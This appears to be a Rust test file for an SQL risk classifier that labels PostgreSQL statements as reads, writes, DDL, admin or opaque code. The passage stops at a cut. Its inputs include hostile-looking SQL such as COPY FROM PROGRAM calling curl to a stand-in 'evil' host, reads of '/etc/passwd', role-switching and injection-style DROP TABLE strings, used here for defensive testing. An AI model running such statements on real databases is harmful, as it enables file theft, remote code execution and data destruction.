//! Table-driven classification tests over real PostgreSQL statements.

use std::sync::Arc;

use agentgate_sql_classify::risk::{
    ADMIN, COPY, DCL, DDL, OPAQUE_CODE, READ, WRITE, WRITE_UNBOUNDED,
};
use agentgate_sql_classify::{
    Classification, Classifier, ClassifyError, MAX_SQL_LEN, PreparedStatements, classify, risk,
};

const NONE: &[&str] = &[];

/// The expected command tag and classes of one statement.
type Expected = (&'static str, &'static [&'static str]);

/// (SQL, expected (command, classes) of each statement in order).
const CASES: &[(&str, &[Expected])] = &[
    // Reads.
    ("SELECT 1", &[("SELECT", &[READ])]),
    (
        "select * from public.users where id = $1",
        &[("SELECT", &[READ])],
    ),
    ("VALUES (1), (2)", &[("SELECT", &[READ])]),
    ("TABLE users", &[("SELECT", &[READ])]),
    ("SELECT * FROM t FOR UPDATE", &[("SELECT", &[READ])]),
    (
        "SELECT * FROM a JOIN b USING (id) WHERE a.x IN (SELECT x FROM c)",
        &[("SELECT", &[READ])],
    ),
    ("SELECT my_function(1)", &[("SELECT", &[READ])]),
    ("SELECT nextval('s')", &[("SELECT", &[READ])]),
    (
        "SELECT count(*) FROM orders GROUP BY 1 HAVING count(*) > 1 ORDER BY 1 LIMIT 5",
        &[("SELECT", &[READ])],
    ),
    (
        "DECLARE c CURSOR FOR SELECT * FROM t",
        &[("DECLARE CURSOR", &[READ])],
    ),
    ("FETCH 10 FROM c", &[("FETCH", &[READ])]),
    ("MOVE 10 IN c", &[("MOVE", NONE)]),
    ("CLOSE c", &[("CLOSE CURSOR", NONE)]),
    ("CLOSE ALL", &[("CLOSE CURSOR", NONE)]),
    // Strings and comments are not statements.
    ("SELECT 'DROP TABLE users'", &[("SELECT", &[READ])]),
    (
        "SELECT $$DROP TABLE users; DELETE FROM t$$",
        &[("SELECT", &[READ])],
    ),
    (
        "SELECT $tag$ '; DROP TABLE users; -- $tag$ AS x",
        &[("SELECT", &[READ])],
    ),
    ("SELECT 1 -- ; DROP TABLE users", &[("SELECT", &[READ])]),
    ("/* DROP TABLE users; */ SELECT 1", &[("SELECT", &[READ])]),
    (
        "SELECT E'\\'; DROP TABLE users; --'",
        &[("SELECT", &[READ])],
    ),
    ("SELECT \"DROP TABLE\" FROM t", &[("SELECT", &[READ])]),
    // Writes.
    ("INSERT INTO t (a) VALUES (1)", &[("INSERT", &[WRITE])]),
    (
        "INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET a = excluded.a",
        &[("INSERT", &[WRITE])],
    ),
    ("UPDATE t SET a = 1 WHERE id = 2", &[("UPDATE", &[WRITE])]),
    (
        "UPDATE t SET a = 1",
        &[("UPDATE", &[WRITE, WRITE_UNBOUNDED])],
    ),
    (
        "UPDATE t SET a = 1 WHERE true",
        &[("UPDATE", &[WRITE, WRITE_UNBOUNDED])],
    ),
    (
        "UPDATE t SET a = 1 WHERE 't'::boolean",
        &[("UPDATE", &[WRITE, WRITE_UNBOUNDED])],
    ),
    ("DELETE FROM t WHERE id = 1", &[("DELETE", &[WRITE])]),
    ("DELETE FROM t", &[("DELETE", &[WRITE, WRITE_UNBOUNDED])]),
    (
        "DELETE FROM t WHERE 1 = 1",
        &[("DELETE", &[WRITE, WRITE_UNBOUNDED])],
    ),
    (
        "DELETE FROM t WHERE id = 3 OR true",
        &[("DELETE", &[WRITE, WRITE_UNBOUNDED])],
    ),
    ("DELETE FROM t WHERE 1 = 2", &[("DELETE", &[WRITE])]),
    ("DELETE FROM t WHERE CURRENT OF c", &[("DELETE", &[WRITE])]),
    (
        "DELETE FROM t USING u WHERE t.id = u.id RETURNING t.*",
        &[("DELETE", &[WRITE])],
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        &[("MERGE", &[WRITE])],
    ),
    (
        "TRUNCATE t",
        &[("TRUNCATE TABLE", &[WRITE, WRITE_UNBOUNDED])],
    ),
    (
        "TRUNCATE TABLE a, b RESTART IDENTITY CASCADE",
        &[("TRUNCATE TABLE", &[WRITE, WRITE_UNBOUNDED])],
    ),
    (
        "REFRESH MATERIALIZED VIEW m",
        &[("REFRESH MATERIALIZED VIEW", &[WRITE])],
    ),
    (
        "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
        &[("LOCK TABLE", &[WRITE])],
    ),
    ("SELECT setval('s', 1)", &[("SELECT", &[READ, WRITE])]),
    ("SELECT lo_unlink(1234)", &[("SELECT", &[READ, WRITE])]),
    // What a wrapped statement really does.
    (
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        &[("SELECT", &[READ, WRITE, WRITE_UNBOUNDED])],
    ),
    (
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        &[("SELECT", &[READ, WRITE])],
    ),
    (
        "WITH a AS (SELECT 1), b AS (WITH c AS (UPDATE t SET x = 1 RETURNING x) SELECT * FROM c) SELECT * FROM a, b",
        &[("SELECT", &[READ, WRITE, WRITE_UNBOUNDED])],
    ),
    (
        "WITH i AS (INSERT INTO log VALUES (1) RETURNING id) UPDATE t SET l = i.id FROM i WHERE t.id = 1",
        &[("UPDATE", &[WRITE])],
    ),
    ("EXPLAIN DELETE FROM t", &[("EXPLAIN", &[READ])]),
    (
        "EXPLAIN SELECT pg_terminate_backend(1)",
        &[("EXPLAIN", &[READ])],
    ),
    (
        "EXPLAIN ANALYZE DELETE FROM t",
        &[("EXPLAIN", &[WRITE, WRITE_UNBOUNDED])],
    ),
    (
        "EXPLAIN (ANALYZE) DELETE FROM t",
        &[("EXPLAIN", &[WRITE, WRITE_UNBOUNDED])],
    ),
    (
        "EXPLAIN (ANALYZE true, BUFFERS) UPDATE t SET a = 1 WHERE id = 1",
        &[("EXPLAIN", &[WRITE])],
    ),
    (
        "EXPLAIN (ANALYZE on) DELETE FROM t WHERE id = 1",
        &[("EXPLAIN", &[WRITE])],
    ),
    (
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        &[("EXPLAIN", &[READ])],
    ),
    (
        "EXPLAIN (ANALYZE off) DELETE FROM t",
        &[("EXPLAIN", &[READ])],
    ),
    ("EXPLAIN ANALYZE SELECT 1", &[("EXPLAIN", &[READ])]),
    (
        "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1",
        &[("EXPLAIN", &[WRITE, DDL])],
    ),
    (
        "CREATE TABLE x AS SELECT * FROM y",
        &[("CREATE TABLE AS", &[WRITE, DDL])],
    ),
    ("SELECT * INTO x FROM y", &[("SELECT INTO", &[WRITE, DDL])]),
    (
        "CREATE MATERIALIZED VIEW m AS SELECT 1",
        &[("CREATE MATERIALIZED VIEW", &[WRITE, DDL])],
    ),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        &[("COPY", &[READ, WRITE, WRITE_UNBOUNDED, COPY])],
    ),
    // COPY.
    ("COPY t TO STDOUT", &[("COPY", &[READ, COPY])]),
    (
        "COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)",
        &[("COPY", &[READ, COPY])],
    ),
    ("COPY t (a, b) FROM STDIN", &[("COPY", &[WRITE, COPY])]),
    (
        "COPY t FROM '/etc/passwd'",
        &[("COPY", &[WRITE, ADMIN, COPY])],
    ),
    (
        "COPY t TO '/tmp/out.csv'",
        &[("COPY", &[READ, ADMIN, COPY])],
    ),
    (
        "COPY t FROM PROGRAM 'curl http://evil'",
        &[("COPY", &[WRITE, ADMIN, OPAQUE_CODE, COPY])],
    ),
    (
        "COPY (SELECT 1) TO PROGRAM 'sh'",
        &[("COPY", &[READ, ADMIN, OPAQUE_CODE, COPY])],
    ),
    // Admin functions anywhere.
    (
        "SELECT pg_terminate_backend(123)",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT pg_catalog.pg_cancel_backend(pid) FROM pg_stat_activity",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT * FROM t WHERE EXISTS (SELECT 1 WHERE pg_cancel_backend(42))",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT * FROM pg_read_file('/etc/passwd')",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT pg_read_binary_file('x'), pg_ls_dir('.'), pg_stat_file('x')",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT lo_import('/etc/passwd')",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT lo_export(1, '/tmp/x')",
        &[("SELECT", &[READ, ADMIN])],
    ),
    ("SELECT pg_reload_conf()", &[("SELECT", &[READ, ADMIN])]),
    ("SELECT pg_rotate_logfile()", &[("SELECT", &[READ, ADMIN])]),
    (
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT dblink_exec('drop table x')",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT CASE WHEN x THEN PG_TERMINATE_BACKEND(1) END FROM t",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT a FROM t ORDER BY pg_terminate_backend(a)",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "INSERT INTO t VALUES (pg_read_file('x'))",
        &[("INSERT", &[WRITE, ADMIN])],
    ),
    (
        "SELECT query_to_xml('select 1', true, true, '')",
        &[("SELECT", &[READ, OPAQUE_CODE])],
    ),
    // set_config and SET of identity: sql.admin.
    (
        "select set_config('role','postgres',false)",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT set_config('session_authorization', 'postgres', false)",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT set_config('ROLE', 'postgres', true)",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT set_config(name, 'x', false) FROM t",
        &[("SELECT", &[READ, ADMIN])],
    ),
    (
        "SELECT set_config('search_path', 'public', false)",
        &[("SELECT", &[READ])],
    ),
    (
        "SELECT set_config('application_name', 'x', false)",
        &[("SELECT", &[READ])],
    ),
    (
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        &[("SELECT", &[READ, ADMIN])],
    ),
    ("SET ROLE postgres", &[("SET", &[ADMIN])]),
    ("SET LOCAL ROLE postgres", &[("SET", &[ADMIN])]),
    ("SET role = 'postgres'", &[("SET", &[ADMIN])]),
    ("RESET ROLE", &[("RESET", &[ADMIN])]),
    ("SET SESSION AUTHORIZATION postgres", &[("SET", &[ADMIN])]),
    ("SET SESSION AUTHORIZATION DEFAULT", &[("SET", &[ADMIN])]),
    ("RESET SESSION AUTHORIZATION", &[("RESET", &[ADMIN])]),
    (
        "SET session_replication_role = replica",
        &[("SET", &[ADMIN])],
    ),
    ("SET log_statement = 'none'", &[("SET", &[ADMIN])]),
    (
        "SET standard_conforming_strings = off",
        &[("SET", &[ADMIN])],
    ),
    ("SET standard_conforming_strings = on", &[("SET", NONE)]),
    ("SET client_encoding = 'SJIS'", &[("SET", &[ADMIN])]),
    ("SET NAMES 'UTF8'", &[("SET", NONE)]),
    ("RESET client_encoding", &[("RESET", &[ADMIN])]),
    // Harmless session statements and transaction control: no class.
    ("SET search_path = public, app", &[("SET", NONE)]),
    ("SET statement_timeout TO '5s'", &[("SET", NONE)]),
    ("SET TIME ZONE 'UTC'", &[("SET", NONE)]),
    (
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        &[("SET", NONE)],
    ),
    ("RESET ALL", &[("RESET", NONE)]),
    ("RESET work_mem", &[("RESET", NONE)]),
    ("SHOW search_path", &[("SHOW", NONE)]),
    ("SHOW ALL", &[("SHOW", NONE)]),
    ("SET CONSTRAINTS ALL DEFERRED", &[("SET CONSTRAINTS", NONE)]),
    ("LISTEN jobs", &[("LISTEN", NONE)]),
    ("NOTIFY jobs, 'payload'", &[("NOTIFY", NONE)]),
    ("UNLISTEN *", &[("UNLISTEN", NONE)]),
    ("DEALLOCATE p", &[("DEALLOCATE", NONE)]),
    ("DEALLOCATE ALL", &[("DEALLOCATE ALL", NONE)]),
    ("DISCARD PLANS", &[("DISCARD PLANS", NONE)]),
    ("DISCARD TEMP", &[("DISCARD TEMP", NONE)]),
    ("DISCARD ALL", &[("DISCARD ALL", &[ADMIN])]),
    ("BEGIN", &[("BEGIN", NONE)]),
    (
        "BEGIN ISOLATION LEVEL REPEATABLE READ READ ONLY",
        &[("BEGIN", NONE)],
    ),
    ("START TRANSACTION", &[("START TRANSACTION", NONE)]),
    ("COMMIT", &[("COMMIT", NONE)]),
    ("ROLLBACK", &[("ROLLBACK", NONE)]),
    ("SAVEPOINT s1", &[("SAVEPOINT", NONE)]),
    ("RELEASE SAVEPOINT s1", &[("RELEASE", NONE)]),
    ("ROLLBACK TO SAVEPOINT s1", &[("ROLLBACK", NONE)]),
    ("END", &[("COMMIT", NONE)]),
    (
        "PREPARE TRANSACTION 'x'",
        &[("PREPARE TRANSACTION", &[ADMIN])],
    ),
    ("COMMIT PREPARED 'x'", &[("COMMIT PREPARED", &[ADMIN])]),
    ("ROLLBACK PREPARED 'x'", &[("ROLLBACK PREPARED", &[ADMIN])]),
    // Prepared statements without a session: EXECUTE is opaque.
    (
        "PREPARE q AS SELECT * FROM t WHERE id = $1",
        &[("PREPARE", &[READ])],
    ),
    (
        "PREPARE d (int) AS DELETE FROM t WHERE id = $1",
        &[("PREPARE", &[WRITE])],
    ),
    (
        "PREPARE d AS DELETE FROM t",
        &[("PREPARE", &[WRITE, WRITE_UNBOUNDED])],
    ),
    ("EXECUTE q(1)", &[("EXECUTE", &[OPAQUE_CODE])]),
    (
        "EXECUTE q(pg_terminate_backend(1))",
        &[("EXECUTE", &[ADMIN, OPAQUE_CODE])],
    ),
    // DDL.
    (
        "CREATE TABLE t (id bigint PRIMARY KEY, name text NOT NULL)",
        &[("CREATE TABLE", &[DDL])],
    ),
    ("CREATE TEMP TABLE t (a int)", &[("CREATE TABLE", &[DDL])]),
    (
        "CREATE TABLE t (a text DEFAULT pg_read_file('x'))",
        &[("CREATE TABLE", &[DDL, ADMIN])],
    ),
    ("ALTER TABLE t ADD COLUMN b int", &[("ALTER TABLE", &[DDL])]),
    (
        "ALTER TABLE t OWNER TO bob",
        &[("ALTER TABLE", &[DDL, DCL])],
    ),
    (
        "ALTER TABLE t DISABLE ROW LEVEL SECURITY",
        &[("ALTER TABLE", &[DDL, DCL])],
    ),
    ("ALTER INDEX i RENAME TO j", &[("ALTER INDEX", &[DDL])]),
    ("ALTER TABLE t RENAME TO u", &[("ALTER TABLE", &[DDL])]),
    ("DROP TABLE t", &[("DROP TABLE", &[DDL])]),
    (
        "DROP TABLE IF EXISTS a, s.b CASCADE",
        &[("DROP TABLE", &[DDL])],
    ),
    (
        "DROP MATERIALIZED VIEW m",
        &[("DROP MATERIALIZED VIEW", &[DDL])],
    ),
    ("DROP FUNCTION f(int)", &[("DROP FUNCTION", &[DDL])]),
    ("DROP POLICY p ON t", &[("DROP POLICY", &[DDL, DCL])]),
    (
        "CREATE INDEX CONCURRENTLY i ON t (a)",
        &[("CREATE INDEX", &[DDL])],
    ),
    (
        "CREATE VIEW v AS SELECT * FROM t",
        &[("CREATE VIEW", &[DDL])],
    ),
    ("CREATE SEQUENCE s", &[("CREATE SEQUENCE", &[DDL])]),
    (
        "CREATE TYPE mood AS ENUM ('sad', 'ok')",
        &[("CREATE TYPE", &[DDL])],
    ),
    (
        "CREATE TYPE pair AS (a int, b int)",
        &[("CREATE TYPE", &[DDL])],
    ),
    (
        "CREATE DOMAIN d AS int CHECK (VALUE > 0)",
        &[("CREATE DOMAIN", &[DDL])],
    ),
    ("CREATE SCHEMA app", &[("CREATE SCHEMA", &[DDL])]),
    (
        "CREATE SCHEMA s CREATE TABLE t (a int) GRANT SELECT ON t TO bob",
        &[("CREATE SCHEMA", &[DDL, DCL])],
    ),
    (
        "COMMENT ON TABLE t IS 'DROP TABLE t'",
        &[("COMMENT", &[DDL])],
    ),
    (
        "CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)",
        &[("CREATE AGGREGATE", &[DDL])],
    ),
    ("ALTER TABLE t SET SCHEMA s", &[("ALTER TABLE", &[DDL])]),
    ("CREATE DATABASE d", &[("CREATE DATABASE", &[DDL, ADMIN])]),
    ("DROP DATABASE d", &[("DROP DATABASE", &[DDL, ADMIN])]),
    (
        "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p",
        &[("CREATE SUBSCRIPTION", &[DDL, ADMIN])],
    ),
    (
        "CREATE EXTENSION IF NOT EXISTS pgcrypto",
        &[("CREATE EXTENSION", &[DDL, OPAQUE_CODE])],
    ),
    // DCL.
    ("GRANT SELECT ON t TO bob", &[("GRANT", &[DCL])]),
    (
        "GRANT ALL ON ALL TABLES IN SCHEMA public TO bob",
        &[("GRANT", &[DCL])],
    ),
    ("REVOKE INSERT ON t FROM PUBLIC", &[("REVOKE", &[DCL])]),
    ("GRANT admin TO bob", &[("GRANT", &[DCL])]),
    ("REVOKE admin FROM bob", &[("REVOKE", &[DCL])]),
    (
        "CREATE ROLE r LOGIN PASSWORD 'x'",
        &[("CREATE ROLE", &[DCL])],
    ),
    ("CREATE USER u", &[("CREATE USER", &[DCL])]),
    ("ALTER ROLE r SUPERUSER", &[("ALTER ROLE", &[DCL])]),
    ("ALTER USER u WITH PASSWORD 'y'", &[("ALTER ROLE", &[DCL])]),
    (
        "ALTER ROLE r SET search_path = x",
        &[("ALTER ROLE", &[DCL])],
    ),
    ("ALTER ROLE r RENAME TO s", &[("ALTER ROLE", &[DCL])]),
    ("DROP ROLE r", &[("DROP ROLE", &[DCL])]),
    ("DROP USER IF EXISTS u", &[("DROP ROLE", &[DCL])]),
    (
        "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob",
        &[("ALTER DEFAULT PRIVILEGES", &[DCL])],
    ),
    (
        "REASSIGN OWNED BY a TO b",
        &[("REASSIGN OWNED", &[DDL, DCL])],
    ),
    ("DROP OWNED BY a", &[("DROP OWNED", &[DDL, DCL])]),
    (
        "CREATE POLICY p ON t USING (true)",
        &[("CREATE POLICY", &[DDL, DCL])],
    ),
    (
        "ALTER SCHEMA s OWNER TO bob",
        &[("ALTER SCHEMA", &[DDL, DCL])],
    ),
    // Admin statements.
    (
        "ALTER SYSTEM SET work_mem = '1GB'",
        &[("ALTER SYSTEM", &[ADMIN])],
    ),
    ("ALTER SYSTEM RESET ALL", &[("ALTER SYSTEM", &[ADMIN])]),
    ("VACUUM", &[("VACUUM", &[ADMIN])]),
    ("VACUUM (FULL, ANALYZE) t", &[("VACUUM", &[ADMIN])]),
    ("ANALYZE t", &[("ANALYZE", &[ADMIN])]),
    ("CLUSTER t USING i", &[("CLUSTER", &[ADMIN])]),
    ("REINDEX TABLE t", &[("REINDEX", &[ADMIN])]),
    ("CHECKPOINT", &[("CHECKPOINT", &[ADMIN])]),
    ("LOAD 'auto_explain'", &[("LOAD", &[ADMIN, OPAQUE_CODE])]),
    (
        "CREATE TABLESPACE ts LOCATION '/data'",
        &[("CREATE TABLESPACE", &[DDL, ADMIN])],
    ),
    // Opaque code.
    (
        "DO $$ BEGIN DROP TABLE x; END $$",
        &[("DO", &[OPAQUE_CODE])],
    ),
    (
        "DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'",
        &[("DO", &[OPAQUE_CODE])],
    ),
    ("CALL p(1)", &[("CALL", &[OPAQUE_CODE])]),
    (
        "CALL p(pg_terminate_backend(1))",
        &[("CALL", &[ADMIN, OPAQUE_CODE])],
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t; SELECT 1 $$",
        &[("CREATE FUNCTION", &[DDL, OPAQUE_CODE])],
    ),
    (
        "CREATE OR REPLACE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN DROP TABLE users; RETURN NEW; END $f$",
        &[("CREATE FUNCTION", &[DDL, OPAQUE_CODE])],
    ),
    (
        "CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'",
        &[("CREATE PROCEDURE", &[DDL, OPAQUE_CODE])],
    ),
    (
        "CREATE FUNCTION g() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END",
        &[(
            "CREATE FUNCTION",
            &[WRITE, WRITE_UNBOUNDED, DDL, OPAQUE_CODE],
        )],
    ),
    (
        "ALTER FUNCTION f() SECURITY DEFINER",
        &[("ALTER FUNCTION", &[DDL, OPAQUE_CODE])],
    ),
    (
        "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        &[("CREATE TRIGGER", &[DDL, OPAQUE_CODE])],
    ),
    (
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
        &[("CREATE EVENT TRIGGER", &[DDL, OPAQUE_CODE])],
    ),
    (
        "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",
        &[("CREATE RULE", &[DDL, OPAQUE_CODE])],
    ),
    (
        "CREATE RULE r AS ON SELECT TO t DO ALSO DELETE FROM u",
        &[("CREATE RULE", &[WRITE, WRITE_UNBOUNDED, DDL, OPAQUE_CODE])],
    ),
    // Multi-statement queries: each statement on its own.
    (
        "BEGIN; UPDATE t SET a = 1 WHERE id = 1; DELETE FROM u; COMMIT;",
        &[
            ("BEGIN", NONE),
            ("UPDATE", &[WRITE]),
            ("DELETE", &[WRITE, WRITE_UNBOUNDED]),
            ("COMMIT", NONE),
        ],
    ),
    (
        "SELECT 1; SELECT 2;;",
        &[("SELECT", &[READ]), ("SELECT", &[READ])],
    ),
    (
        "SELECT 'a;b'; -- a comment; DROP TABLE t\n/* ; */ GRANT SELECT ON t TO x",
        &[("SELECT", &[READ]), ("GRANT", &[DCL])],
    ),
    (
        "PREPARE p AS DELETE FROM t WHERE id = $1; EXECUTE p(1)",
        &[("PREPARE", &[WRITE]), ("EXECUTE", &[OPAQUE_CODE])],
    ),
    // Nothing to run.
    ("", &[]),
    ("   ", &[]),
    ("-- just a comment", &[]),
    (";", &[]),
];

#[test]
fn statements_classify_as_expected() {
    let mut failures = Vec::new();
    for (sql, expected) in CASES {
        let classification = match classify(sql) {
            Ok(classification) => classification,
            Err(error) => {
                failures.push(format!("{sql:?}: unexpected error {error}"));
                continue;
            }
        };
        let got: Vec<(&str, Vec<&str>)> = classification
            .statements
            .iter()
            .map(|statement| (statement.command.as_str(), statement.risk_classes.clone()))
            .collect();
        let want: Vec<(&str, Vec<&str>)> = expected
            .iter()
            .map(|(command, classes)| (*command, classes.to_vec()))
            .collect();
        if got != want {
            failures.push(format!("{sql:?}:\n    got  {got:?}\n    want {want:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn every_class_is_in_the_policy_catalog() {
    for class in risk::ALL {
        assert!(
            agentgate_policy::RISK_CLASSES.contains(&class),
            "{class} is not in agentgate_policy::RISK_CLASSES"
        );
        assert!(class.starts_with("sql."));
    }
    for (sql, _) in CASES {
        let classification = classify(sql).expect("case parses");
        for class in classification.risk_classes() {
            assert!(agentgate_policy::is_known_risk_class(class), "{class}");
        }
    }
}

#[test]
fn query_classes_are_the_union_in_catalog_order() {
    let classification =
        classify("COPY t TO STDOUT; SELECT pg_reload_conf(); DELETE FROM t").expect("parses");
    assert_eq!(
        classification.risk_classes(),
        [READ, WRITE, WRITE_UNBOUNDED, ADMIN, COPY]
    );
}

#[test]
fn tables_are_listed_as_written() {
    let tables = |sql: &str| -> Vec<String> {
        classify(sql)
            .expect("parses")
            .statements
            .iter()
            .flat_map(|statement| statement.tables.clone())
            .collect()
    };
    assert_eq!(
        tables("SELECT * FROM public.users u JOIN orders o ON o.uid = u.id"),
        ["public.users", "orders"]
    );
    assert_eq!(
        tables("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent JOIN app.users ON true"),
        ["orders", "app.users"]
    );
    // A CTE named like the table it deletes from: the target is always a table.
    assert_eq!(
        tables("WITH t AS (DELETE FROM t RETURNING *) SELECT * FROM t"),
        ["t"]
    );
    assert_eq!(
        tables("INSERT INTO audit.log SELECT * FROM src"),
        ["audit.log", "src"]
    );
    assert_eq!(tables("DROP TABLE IF EXISTS a, s.b"), ["a", "s.b"]);
    assert_eq!(tables("TRUNCATE a, b"), ["a", "b"]);
    assert_eq!(tables("EXPLAIN SELECT * FROM x"), ["x"]);
    assert_eq!(tables("COPY s.t FROM STDIN"), ["s.t"]);
    assert_eq!(tables("SELECT 1"), Vec::<String>::new());
    let classification = classify("SELECT * FROM a; UPDATE b SET x = 1 FROM a").expect("parses");
    assert_eq!(classification.tables(), ["a", "b"]);
}

#[test]
fn spans_locate_each_statement() {
    let sql = "  SELECT 1 ;\n-- comment\nDELETE FROM t WHERE id = 1;  INSERT INTO t VALUES ('é;')";
    let classification = classify(sql).expect("parses");
    let texts: Vec<&str> = classification
        .statements
        .iter()
        .map(|statement| &sql[statement.span.clone()])
        .collect();
    assert_eq!(
        texts,
        [
            "SELECT 1",
            "DELETE FROM t WHERE id = 1",
            "INSERT INTO t VALUES ('é;')"
        ]
    );
    for statement in &classification.statements {
        assert_eq!(statement.text, sql[statement.span.clone()]);
    }
}

#[test]
fn notes_explain_surprises() {
    let notes = |sql: &str| classify(sql).expect("parses").statements[0].notes.clone();
    assert!(notes("SELECT * FROM t FOR UPDATE")[0].contains("locks"));
    assert!(notes("EXPLAIN DELETE FROM t")[0].contains("does not run"));
    assert!(notes("EXECUTE p")[0].contains("not prepared"));
    assert!(notes("SELECT 1").is_empty());
}

#[test]
fn unparseable_input_is_an_error_with_a_position() {
    let cases: &[(&str, Option<usize>)] = &[
        ("SELEC 1", Some(1)),
        ("SELECT * FORM t", Some(10)),
        ("SELECT 1; DELET FROM t", Some(11)),
        ("SELECT (1", Some(10)),
        ("SELECT 'unterminated", Some(8)),
        ("DROP TABLE", Some(11)),
        ("DELETE FROM t WHERE", Some(20)),
        ("\u{1F600}", Some(1)),
        ("garbage; DROP TABLE users", Some(1)),
        ("SELECT 1 /* unterminated comment", None),
    ];
    for (sql, position) in cases {
        let error = classify(sql).expect_err(sql);
        assert!(
            matches!(error, ClassifyError::Parse { .. }),
            "{sql:?}: {error:?}"
        );
        assert_eq!(error.sqlstate(), "42601");
        if position.is_some() {
            assert_eq!(error.position(), *position, "{sql:?}: {error}");
        }
        assert!(
            error
                .to_string()
                .starts_with("agentgate could not parse this SQL: ")
        );
    }
    let error = classify("SELECT 1\0; DROP TABLE t").expect_err("NUL");
    assert_eq!(error.position(), Some(9));
}

#[test]
fn oversized_and_overly_nested_input_is_refused() {
    let long = format!("SELECT '{}'", "x".repeat(MAX_SQL_LEN));
    let error = classify(&long).expect_err("too long");
    assert!(matches!(error, ClassifyError::TooLong { max, .. } if max == MAX_SQL_LEN));
    assert_eq!(error.sqlstate(), "54000");

    let deep = format!("SELECT {}1{}", "(SELECT ".repeat(40), ")".repeat(40));
    let error = classify(&deep).expect_err("too deep");
    assert!(
        matches!(error, ClassifyError::TooComplex { .. }),
        "{error:?}"
    );
    assert_eq!(error.sqlstate(), "54001");

    let deeper = format!("SELECT {}1{}", "(SELECT ".repeat(5000), ")".repeat(5000));
    assert!(classify(&deeper).is_err());
}

#[test]
fn cache_answers_repeats_without_parsing() {
    let classifier = Classifier::new();
    let sql = "SELECT * FROM t WHERE id = $1";
    let first = classifier.classify(sql).expect("parses");
    let second = classifier.classify(sql).expect("parses");
    assert!(Arc::ptr_eq(&first, &second), "a hit returns the cached Arc");
    assert_eq!(*first, classify(sql).expect("parses"));
    let stats = classifier.stats();
    assert_eq!((stats.hits, stats.misses, stats.entries), (1, 1, 1));
    assert!(stats.bytes >= sql.len());

    // Errors are cached too.
    let bad = "SELEC 1";
    let first = classifier.classify(bad).expect_err("bad");
    let second = classifier.classify(bad).expect_err("bad");
    assert_eq!(first, second);
    assert_eq!(classifier.stats().hits, 2);
}

#[test]
fn cache_stays_within_its_bounds() {
    let classifier = Classifier::with_limits(64, 1024 * 1024);
    for i in 0..2000 {
        classifier.classify(&format!("SELECT {i}")).expect("parses");
    }
    assert!(classifier.stats().entries <= 64, "{:?}", classifier.stats());

    // Recently used entries survive eviction.
    let classifier = Classifier::with_limits(Classifier::DEFAULT_MAX_ENTRIES, 64 * 1024);
    for i in 0..5000 {
        classifier
            .classify(&format!("SELECT {i} FROM t"))
            .expect("parses");
        classifier.classify("SELECT 'hot'").expect("parses");
    }
    let stats = classifier.stats();
    assert!(stats.bytes <= 64 * 1024, "{stats:?}");
    assert!(stats.hits >= 4999, "{stats:?}");

    let uncached = Classifier::with_limits(0, 0);
    uncached.classify("SELECT 1").expect("parses");
    uncached.classify("SELECT 1").expect("parses");
    assert_eq!(uncached.stats().hits, 0);
    assert_eq!(uncached.stats().entries, 0);
}

#[test]
fn classifier_is_shared_across_threads() {
    let classifier = Arc::new(Classifier::new());
    let threads: Vec<_> = (0..4)
        .map(|n| {
            let classifier = Arc::clone(&classifier);
            std::thread::spawn(move || {
                for i in 0..200 {
                    let sql = format!("DELETE FROM t{} WHERE id = {}", i % 10, n);
                    let classification = classifier.classify(&sql).expect("parses");
                    assert_eq!(classification.risk_classes(), [WRITE]);
                }
            })
        })
        .collect();
    for thread in threads {
        thread.join().expect("thread ran");
    }
    assert_eq!(classifier.stats().entries, 40);
}

fn session_classes(
    session: &mut PreparedStatements,
    classifier: &Classifier,
    sql: &str,
) -> Vec<Vec<&'static str>> {
    session
        .classify(classifier, sql)
        .expect("parses")
        .statements
        .iter()
        .map(|statement| statement.risk_classes.clone())
        .collect()
}

#[test]
